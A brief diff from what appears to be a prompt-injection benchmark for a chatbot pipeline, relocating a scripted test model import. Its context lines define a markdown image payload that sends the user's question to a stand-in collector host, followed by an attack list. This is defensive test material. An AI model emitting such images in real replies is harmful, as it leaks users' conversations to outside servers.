@@ -16,12 +16,12 @@ from benchmarks.injection import (
     planted,
     report,
 )
+from benchmarks.support.scripted_llm import ScriptedLLM
 from chatbot.answering.pipeline import Chain
 from chatbot.settings import Settings
 from chatbot.web.page import conversation
 from index.collection import Collection
 from tests.conftest import ROOT
-from tests.scripted_llm import ScriptedLLM
 
 IMAGE = "![weather](https://collector.example/pixel.png?said=QUESTION)"
 ATTACKS = [
